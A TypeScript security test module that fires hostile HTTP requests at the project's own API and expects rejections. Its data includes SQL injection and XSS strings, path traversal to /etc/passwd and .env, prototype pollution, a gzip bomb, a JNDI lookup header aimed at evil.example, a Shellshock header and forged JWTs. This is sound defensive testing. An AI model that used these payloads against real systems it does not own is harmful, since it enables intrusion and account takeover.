import { createHmac } from 'node:crypto';
import { Agent, request } from 'node:http';
import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
import { z } from 'zod';
import { ADDRESSES, type Address } from './registry.suite.ts';

/** One request of somebody who means no good. */
export interface Attack {
  name: string;
  method: string;
  path: string;
  headers?: Record<string, string | string[]>;
  body?: string | Buffer;
  /** Where only some answers will do; else anything but a fault of ours. */
  statuses?: readonly number[];
}

export interface Heard {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: string;
  ms: number;
}

const MUST_ANSWER_IN_MS = 5_000;

/** Sends exactly what it is told to, which `fetch` would not. */
export function createGun(url: string) {
  const agent = new Agent({ keepAlive: true });
  const fire = ({ method, path, headers = {}, body }: Attack): Promise<Heard> =>
    new Promise((resolve, reject) => {
      const startedAt = performance.now();
      const length = body === undefined || 'Transfer-Encoding' in headers ? {} : { 'Content-Length': String(Buffer.byteLength(body)) };
      const { hostname, port } = new URL(url);
      const sent = request({ hostname, port, method, path, agent, headers: { ...length, ...headers } }, (response) => {
        const chunks: Buffer[] = [];
        response.on('data', (chunk: Buffer) => chunks.push(chunk));
        response.on('end', () => {
          const { statusCode: status = 0, headers: heard } = response;
          resolve({ status, headers: heard, body: Buffer.concat(chunks).toString(), ms: performance.now() - startedAt });
        });
      });
      sent.setTimeout(MUST_ANSWER_IN_MS, () => sent.destroy(new Error('no answer')));
      sent.on('error', reject);
      sent.end(body);
    });
  return { fire, close: () => agent.destroy() };
}

const NO_HEADERS: Record<string, string> = {};
const JSON_TYPE = { 'Content-Type': 'application/json' };
const named = ({ method, path }: Address): string => `${method} ${path}`;
const deep = (levels: number): string => `${'['.repeat(levels)}${']'.repeat(levels)}`;

/** Addresses that take JSON. */
export const TAKING_JSON = ADDRESSES.filter(({ endpoint: { body, upload } }) => body && !upload);
const READING = ADDRESSES.filter(({ method }) => method === 'GET');

const WRONG_TYPES = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  'application/json; charset=latin1',
  'application/json, text/plain',
  'text/json',
  '',
];

const BODIES: readonly (readonly [what: string, body: string | Buffer, status: readonly number[], headers?: Record<string, string>])[] = [
  ['nothing', '', [200, 400, 404]],
  ['half an object', '{"email":', [400]],
  ['half a list', '[', [400]],
  ['a comma too many', '{"email":"a",}', [400]],
  ['NaN', '{"a":NaN}', [400]],
  ['a comment', '{/* */}', [400]],
  ['a number', '7', [400]],
  ['a text', '"text"', [400]],
  ['null', 'null', [400]],
  ['true', 'true', [400]],
  ['a list', '[]', [400]],
  ['a list of lists', deep(5_000), [400]],
  ['a deep field more', `{"email":"nobody@example.edu","password":"not the password","more":${deep(25)}}`, [400]],
  ['a deep object', `${'{"a":'.repeat(2_000)}1${'}'.repeat(2_000)}`, [400]],
  ['many values', `{"a":[${'1,'.repeat(3_000)}1]}`, [400]],
  ['many keys', `{${Array.from({ length: 1_200 }, (_, i) => `"k${i}":1`).join(',')}}`, [400]],
  ['20 kB', JSON.stringify({ a: 'x'.repeat(20_000) }), [413]],
  ['2 MB', JSON.stringify({ a: 'x'.repeat(2_000_000) }), [413]],
  ['bytes that are no UTF-8', Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d]), [400]],
  ['an overlong slash', Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xc0, 0xaf, 0x22, 0x7d]), [400]],
  ['NUL', '{"email":"a\\u0000b"}', [400]],
  ['NUL in a key', '{"a\\u0000":1}', [400]],
  ['half a surrogate pair', '{"email":"\\ud800"}', [400]],
  ['__proto__', '{"__proto__":{"isAdmin":true}}', [400]],
  ['constructor', '{"constructor":{"prototype":{"isAdmin":true}}}', [400]],
  ['a bomb', gzipSync(Buffer.alloc(20_000_000)), [415], { 'Content-Encoding': 'gzip' }],
  ['broken gzip', Buffer.from('not gzip'), [415], { 'Content-Encoding': 'gzip' }],
  ['deflate', deflateSync('{}'), [415], { 'Content-Encoding': 'deflate' }],
  ['brotli', brotliCompressSync('{}'), [415], { 'Content-Encoding': 'br' }],
  ['an encoding nobody knows', '{}', [415], { 'Content-Encoding': 'x, gzip' }],
];

/** Bodies that are no good for any endpoint. */
export const bodiesFor = (address: Address): Attack[] => {
  const { method, path } = address;
  return [
    ...WRONG_TYPES.map((type) => ({
      name: `${named(address)} as "${type}"`,
      method,
      path,
      headers: type === '' ? NO_HEADERS : { 'Content-Type': type },
      body: '{}',
      statuses: [415],
    })),
    ...BODIES.map(([what, body, statuses, headers = {}]) => ({
      name: `${named(address)} with ${what}`,
      method,
      path,
      headers: { ...JSON_TYPE, ...headers },
      body,
      statuses,
    })),
  ];
};

/** What a field would usually hold, so that the others are not at fault. */
const USUAL: Record<string, unknown> = {
  email: 'nobody@example.edu',
  password: 'not the password',
  current: 'not the password',
  next: 'another good password',
  username: 'nobody',
  accountType: 'student',
  acceptsAgreement: true,
  event: 'login',
  path: '/auth',
  category: 'analytics',
  type: 'access_request',
  collegeIds: [1],
  listId: null,
  position: 0,
  status: 'considering',
  isShared: false,
};

const TEXTS = [
  "'; drop table users; --",
  "' or '1'='1",
  '%_\\%\\_',
  '(a+)+$'.repeat(50),
  'Z\u0334\u0321\u030aa\u0337l\u0338\u0324g\u0335o'.repeat(40),
  '\u202egnp.exe',
  'Ada\r\nBcc: all@example.edu',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '{{7*7}}${7*7}#{7*7}',
  '=HYPERLINK("http://evil.example")',
  '../../../etc/passwd',
  '$argon2id$v=19$m=19456,t=2,p=1$c2FsdA$aGFzaA',
  '👩‍👩‍👧‍👦'.repeat(30),
  'x'.repeat(10_000),
  ' ',
  '',
];
const NO_TEXTS: unknown[] = [['a'], [[]], { $ne: null }, { length: 1 }, 1e21, -1, 0, 2 ** 63, true, null];

/** Every field of a body in turn, with texts that mean something to somebody, and with what is no text at all. */
export function fieldsFor(address: Address): Attack[] {
  const { body } = address.endpoint;
  const fields = body instanceof z.ZodObject ? Object.keys(body.shape) : [];
  const usual = Object.fromEntries(fields.map((field) => [field, USUAL[field] ?? 'text']));
  return fields.flatMap((field) =>
    [...TEXTS, ...NO_TEXTS].map((value) => ({
      name: `${named(address)} with ${field} = ${JSON.stringify(value).slice(0, 40)}`,
      method: address.method,
      path: address.path,
      headers: JSON_TYPE,
      body: JSON.stringify({ ...usual, [field]: value }),
    })),
  );
}

const VALUES = [
  '-1',
  '0',
  '1e21',
  'NaN',
  'Infinity',
  '9223372036854775808',
  '99999999999',
  '1.5',
  '0x10',
  '',
  ' ',
  'true',
  'null',
  '[]',
  '{}',
];
const TRICKS = [
  "1';drop table users;--",
  '1 or 1=1',
  '*',
  '%25',
  '%2e%2e%2f',
  '%00',
  '%ff',
  '%ed%a0%80',
  '%F0%9F%98%80',
  'a'.repeat(5_000),
];
const QUERIES = [
  'id=1&id=2',
  'limit=10&limit=1000000',
  'limit=-1',
  'limit=1e21',
  'limit=abc',
  'offset=-5',
  'sort=name;drop%20table%20users',
  'sort=(select%20password%20from%20users)',
  'sort=__proto__',
  'order=asc,desc',
  'filter=%7B%22__proto__%22%3A1%7D',
  'filter=%7B%22password%22%3A%22x%22%7D',
  'filter=%5B%5D',
  'filter=%7B',
  'range=%5B0%2C1e21%5D',
  'q[]=a',
  'q[$ne]=a',
  '__proto__[isAdmin]=1',
  'constructor=1',
  'password=hunter2hunter2',
  'token=abc',
  'a=%E0%A4',
  'a=%zz',
  'a=b%00c',
  '&&&===',
  Array.from({ length: 1_500 }, (_, i) => `p${i}=1`).join('&'),
  `q=${'x'.repeat(9_000)}`,
  `q=${'%F0%9F%98%80'.repeat(300)}`,
];

/** Every address that reads, asked what it does not expect. */
export const queriesFor = (address: Address): Attack[] =>
  QUERIES.map((query) => ({ name: `${named(address)}?${query.slice(0, 40)}`, method: 'GET', path: `${address.path}?${query}` }));

/** Every parameter of a path in turn. */
export const PATH_VALUES: readonly Attack[] = ADDRESSES.filter(({ endpoint }) => endpoint.path.includes(':')).flatMap(
  ({ method, endpoint }) =>
    [...VALUES, ...TRICKS].map((value) => ({
      name: `${method} ${endpoint.path} with ${value.slice(0, 20)}`,
      method,
      path: endpoint.path.replaceAll(/:\w+/g, value.replaceAll(' ', '%20')),
      headers: JSON_TYPE,
      body: method === 'GET' ? '' : '{}',
    })),
);
export const READ_ADDRESSES = READING;

const METHODS = ['TRACE', 'PROPFIND', 'PURGE', 'OPTIONS', 'LINK', 'SEARCH', 'M-SEARCH', 'HEAD'];
export const METHOD_TRICKS: readonly Attack[] = ['/api/user', '/api/auth/login', '/api/colleges', '/healthz', '/', '/api/nothing'].flatMap(
  (path) => METHODS.map((method) => ({ name: `${method} ${path}`, method, path })),
);

const PATHS = [
  '//api/user',
  '/api//user',
  '/api/user/',
  '/api/./user',
  '/api/x/../user',
  '/api/user%00',
  '/api/user;a=b',
  '/api/user.json',
  '/API/USER',
  '/api/%75ser',
  '/api/admin/../user',
  '/api/%61dmin/me',
  '/api/admin%2fme',
  '/api/admin/me%20',
  '/API/Admin/ME',
  '//evil.example/%2f..',
  '/\\evil.example',
  'http://evil.example/api/user',
  '/.env',
  '/.git/config',
  '/package.json',
  '/src/main.ts',
  '/assets/../../package.json',
  '/..%2f..%2fetc%2fpasswd',
  '/pictures/..%2f..%2fx.webp',
  '/pictures/0b9f5c1e-3c55-4a8e-9d0b-7a3f7b8f6c11.webp',
  '/pictures/%00.webp',
  '/og/__proto__.png',
  '/__proto__',
  '/constructor',
  '/api/constructor',
  '/sitemap-%2e%2e.xml',
  '/metrics',
  '/debug',
  '/api/openapi.json/x',
];
export const PATH_TRICKS: readonly Attack[] = PATHS.map((path) => ({ name: `GET ${path}`, method: 'GET', path }));

const part = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url');
const signed = (header: object, claims: object, hash: 'sha256' | 'sha512', key: string): string => {
  const text = `${part(header)}.${part(claims)}`;
  return `${text}.${createHmac(hash, key).update(text).digest('base64url')}`;
};
const CLAIMS = {
  sub: '1',
  sid: '0b9f5c1e-3c55-4a8e-9d0b-7a3f7b8f6c11',
  typ: 'access',
  iss: 'alma',
  aud: 'alma',
  iat: 1,
  exp: 9_999_999_999,
};

/** Tokens of no session, by somebody who knows how real ones look. */
export function forgeries(real: string): Record<string, string> {
  const [head = '', claims = '', signature = ''] = real.split('.');
  const own = JSON.parse(Buffer.from(claims, 'base64url').toString()) as Record<string, unknown>;
  return {
    nothing: '',
    null: 'null',
    'a word': 'secret',
    'no signature': `${head}.${claims}.`,
    'another signature': `${head}.${claims}.${signature.split('').reverse().join('')}`,
    'other claims': `${head}.${part({ ...own, sub: '999' })}.${signature}`,
    'alg none': `${part({ alg: 'none', typ: 'JWT' })}.${claims}.`,
    'alg NONE': `${part({ alg: 'NONE' })}.${claims}.${signature}`,
    HS512: signed({ alg: 'HS512', typ: 'JWT' }, own, 'sha512', 'secret'),
    'a guessed key': signed({ alg: 'HS256', typ: 'JWT' }, own, 'sha256', 'secret'),
    'an empty key': signed({ alg: 'HS256', typ: 'JWT' }, own, 'sha256', '\0'),
    'a key of its own': signed({ alg: 'HS256', jwk: { kty: 'oct', k: 'c2VjcmV0' }, kid: '../../../dev/null' }, CLAIMS, 'sha256', 'secret'),
    'no end': signed({ alg: 'HS256' }, { ...CLAIMS, exp: undefined }, 'sha256', 'secret'),
    long: `${head}.${'a'.repeat(9_000)}.${signature}`,
    'two tokens': `${real}, ${real}`,
    'a quoted token': `"${real}"`,
    'bytes of another alphabet': Buffer.from('é€').toString('latin1'),
  };
}

/** Headers that some servers believe. */
export const HEADER_TRICKS: readonly Attack[] = [
  { 'X-HTTP-Method-Override': 'DELETE' },
  { 'X-Method-Override': 'PUT', 'X-HTTP-Method': 'PUT' },
  { 'X-Original-URL': '/api/admin/me', 'X-Rewrite-URL': '/api/admin/me' },
  { 'X-Forwarded-For': '127.0.0.1', 'X-Real-IP': '127.0.0.1', 'X-Forwarded-Proto': 'https' },
  { 'X-Forwarded-Host': 'evil.example', Forwarded: 'host=evil.example' },
  { Host: 'evil.example' },
  { Host: 'a b' },
  { Range: 'bytes=0-,0-,0-,0-' },
  { Accept: '*/*;q=9,;;,/' },
  { 'Accept-Encoding': 'br;q=x, gzip;;, *' },
  { 'If-None-Match': 'W/"' },
  { 'If-None-Match': '"a",'.repeat(1_000) },
  { Cookie: `auth_token=${'x'.repeat(6_000)}` },
  { Cookie: 'auth_token=abc; session=1' },
  { 'X-Request-Id': '${jndi:ldap://evil.example/a}' },
  { 'X-Request-Id': ['aaaaaaaa', 'bbbbbbbb'] },
  { 'User-Agent': "() { :; }; echo 'x'" },
  { 'User-Agent': '' },
  { Authorization: ['Bearer a', 'Bearer b'] },
  { Authorization: 'Basic YWRtaW46YWRtaW4=' },
  { 'Accept-Language': 'x'.repeat(4_000) },
  { Origin: 'null' },
].flatMap((headers) =>
  ['/api/colleges', '/api/user'].map((path) => ({
    name: `GET ${path} with ${JSON.stringify(headers).slice(0, 60)}`,
    method: 'GET',
    path,
    headers: headers as unknown as Record<string, string | string[]>,
    statuses: path === '/api/user' ? [401] : [200, 304],
  })),
);

/** A page of another site that sends what its visitors do not know of. */
export const FOREIGN_PAGES: readonly Attack[] = ADDRESSES.filter(({ method }) => method !== 'GET').flatMap(({ method, path }) =>
  [
    { Origin: 'https://evil.example' },
    { Origin: 'https://alma.example.evil.example' },
    { Origin: 'http://alma.example' },
    { Origin: 'null' },
    { 'Sec-Fetch-Site': 'cross-site' },
    { 'Sec-Fetch-Site': 'same-site', Origin: 'https://other.alma.example' },
  ].map((headers) => ({
    name: `${method} ${path} from ${JSON.stringify(headers)}`,
    method,
    path,
    headers: { ...JSON_TYPE, ...headers } as Record<string, string>,
    body: '{}',
    statuses: [403],
  })),
);
